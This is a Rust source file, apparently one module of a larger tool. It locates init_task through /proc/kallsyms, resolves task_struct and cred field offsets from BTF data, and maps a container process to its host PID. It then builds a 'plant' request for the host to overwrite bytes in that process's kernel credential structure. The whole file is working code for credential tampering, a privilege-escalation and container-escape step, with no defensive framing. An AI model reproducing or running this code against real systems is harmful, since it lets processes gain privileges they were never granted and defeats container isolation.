//! What the host needs to know to overwrite a credential from outside.

use std::fs;

use anyhow::{Context, Result};
use serde_json::{Value, json};

use crate::btf;

/// Where this kernel keeps what.
pub(super) struct Places {
    btf: Vec<u8>,
    init_task: u64,
}

impl Places {
    /// Asks this kernel.
    pub(super) fn find() -> Result<Self> {
        let symbols = fs::read_to_string("/proc/kallsyms")?;
        let line = symbols.lines().find_map(|line| {
            let mut words = line.split_whitespace();
            let address = words.next()?;
            (words.nth(1) == Some("init_task")).then_some(address)
        });
        let address = line.context("the kernel does not say where its first task is")?;
        Ok(Self {
            btf: fs::read(btf::FILE)?,
            init_task: u64::from_str_radix(address, 16)?,
        })
    }

    /// Asks the host to overwrite members of the credential of a process of the container.
    pub(super) fn wish(&self, own_pid: u64, writes: &[(&str, &[u8])]) -> Result<Value> {
        let task = |member| btf::offset(&self.btf, "task_struct", member);
        let writes = writes.iter().map(|(member, bytes)| {
            let offset = btf::offset(&self.btf, "cred", member)?;
            Ok(json!({"offset": offset, "bytes": bytes}))
        });
        Ok(json!({
            "say": "plant",
            "pid": pid(own_pid)?,
            "init_task": self.init_task,
            "tasks": task("tasks")?,
            "tgid": task("tgid")?,
            "cred": task("cred")?,
            "writes": writes.collect::<Result<Vec<_>>>()?,
        }))
    }
}

/// The number here of a process that has this one in the container.
fn pid(own: u64) -> Result<u64> {
    for entry in fs::read_dir("/proc")? {
        // What is no process, or gone by now, has no status.
        let Ok(status) = fs::read_to_string(entry?.path().join("status")) else {
            continue;
        };
        let numbers = status.lines().find_map(|line| line.strip_prefix("NSpid:"));
        let mut numbers = numbers.unwrap_or_default().split_whitespace();
        if let (Some(here), Some(inside), None) = (numbers.next(), numbers.next(), numbers.next())
            && inside.parse() == Ok(own)
        {
            return Ok(here.parse()?);
        }
    }
    anyhow::bail!("no process of the container has the number {own}")
}
